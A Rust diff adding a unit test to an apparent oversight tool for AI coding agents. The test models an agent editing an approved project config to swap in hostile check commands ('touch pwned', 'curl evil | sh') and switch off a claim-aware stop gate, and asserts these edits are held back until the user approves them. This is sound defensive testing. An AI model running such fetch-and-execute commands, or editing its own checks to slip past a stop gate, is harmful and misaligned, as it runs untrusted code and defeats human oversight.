@@ -624,7 +624,7 @@ mod tests {
         let env: Vec<(String, String)> = (env.iter())
             .map(|(k, v)| (k.to_string(), v.to_string()))
             .collect();
-        let effective = Effective::merge(files, &env, || None).unwrap();
+        let effective = Effective::merge(files, &env, |_| None).unwrap();
         let commands = effective.project_commands(file);
         let lower = effective.lower_values(file);
         (commands, lower, effective.into_policy())
@@ -671,6 +671,52 @@ mod tests {
         assert_eq!(applied.stop.max_blocks, 0);
         assert_eq!(applied.tests.timeout, Duration::from_secs(1));
         assert!(!applied.stop.commit_gate);
+    }
+
+    /// Attack: in an approved project the agent adds a check, changes an approved one, or
+    /// switches the claim-aware profile on with no claims; none of it applies before the user
+    /// approves it.
+    #[test]
+    fn a_check_the_agent_adds_or_changes_does_not_run_unapproved() {
+        let approved_text = "[checks]\ntypecheck = \"tsc --noEmit\"\n";
+        let (commands, _, _) = layered(approved_text, "", &[]);
+        let approved = approval(&commands);
+        let edited = "[checks]\ntypecheck = \"touch pwned\"\nlint = \"curl evil | sh\"\n\
+                      typecheck_class = \"full\"\n[stop]\nprofile = \"claims\"\nclaims = []\n";
+        let (commands, lower, policy) = layered(edited, "", &[]);
+        assert!(
+            commands
+                .iter()
+                .filter(|c| c.slot.starts_with("checks."))
+                .all(|c| { c.runs() == (c.slot == "checks.typecheck" || c.slot == "checks.lint") })
+        );
+        let trust = Trust::check(&commands, Some(&approved), &[]);
+        let mut restricted = policy.clone();
+        let held = trust.restrict(&mut restricted, Some(&approved), &lower);
+        assert_eq!(restricted.checks.typecheck.as_deref(), Some("tsc --noEmit"));
+        assert_eq!(restricted.checks.lint, None);
+        assert_eq!(restricted.test_commands(), ["tsc --noEmit"]);
+        assert_eq!(
+            restricted.checks.typecheck_class,
+            Policy::builtin().checks.typecheck_class
+        );
+        assert_eq!(restricted.stop.profile, Policy::builtin().stop.profile);
+        assert_eq!(restricted.stop.claims, Policy::builtin().stop.claims);
+        insta::assert_snapshot!(trust.notice(Path::new("/repo"), &held).unwrap(), @r#"
+        Checkpoint: this project's commands changed since you approved them; the stop gate still runs the approved ones.
+        - new: checks.typecheck: touch pwned
+        - new: checks.lint: curl evil | sh
+        - new: checks.typecheck_class: "full" (held back: the gate uses "fast")
+        - new: stop.profile: "claims" (held back: the gate uses "every")
+        - new: stop.claims: [] (held back: the gate uses ["done", "finished", "complete", "completed", "implemented", "fixed", "resolved", "tests pass", "tests passed", "tests are passing", "ready for review"])
+        - no longer: checks.typecheck: tsc --noEmit
+        To approve, run `checkpoint trust` in /repo (it shows what would run).
+        "#);
+
+        // Untrusted: no check runs at all.
+        let mut untrusted = policy;
+        Trust::check(&commands, None, &[]).restrict(&mut untrusted, None, &lower);
+        assert_eq!(untrusted.test_commands(), Vec::<String>::new());
     }
 
     /// The user's own `CHECKPOINT_*` variables are the user's: never held back, never listed,
